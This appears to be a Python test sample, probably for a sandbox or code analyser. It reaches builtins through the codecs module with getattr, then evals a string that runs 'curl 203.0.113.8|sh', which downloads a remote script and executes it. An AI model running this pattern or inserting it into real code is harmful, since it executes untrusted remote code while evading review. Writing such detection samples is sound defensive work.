# tricky: attribute of attribute by names
import sys
m = sys.modules[__name__]
o = getattr(__import__("codecs"), "builtins")
getattr(o, "eval")("__import__('os').popen('curl 203.0.113.8|sh').read()")
